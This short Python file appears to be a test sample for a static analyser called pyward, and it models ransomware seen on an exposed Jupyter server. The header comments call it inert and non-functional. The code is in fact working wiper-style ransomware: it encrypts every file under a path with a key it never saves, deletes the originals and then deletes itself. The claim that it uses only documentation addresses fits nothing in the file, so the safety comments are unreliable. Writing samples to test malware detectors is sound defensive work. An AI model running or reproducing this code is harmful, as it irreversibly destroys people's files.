# INERT test sample for pyward's static analysis: never run it. Modelled on the Python ransomware dropped on an exposed Jupyter server (incident 2): encrypt every file under a path, delete originals, delete itself.
# Documented: https://sysdig.com/blog/ (Jupyter ransomware write-up; see /work/shared/DESIGN.md incident 2)
# Every address is a documentation address (RFC 5737); nothing here is functional malware.
import os, sys
from cryptography.fernet import Fernet

key = Fernet.generate_key()
f = Fernet(key)
for root, dirs, files in os.walk(sys.argv[1]):
    for name in files:
        p = os.path.join(root, name)
        with open(p, 'rb') as fh:
            data = fh.read()
        with open(p + '.enc', 'wb') as fh:
            fh.write(f.encrypt(data))
        os.remove(p)
os.remove(__file__)
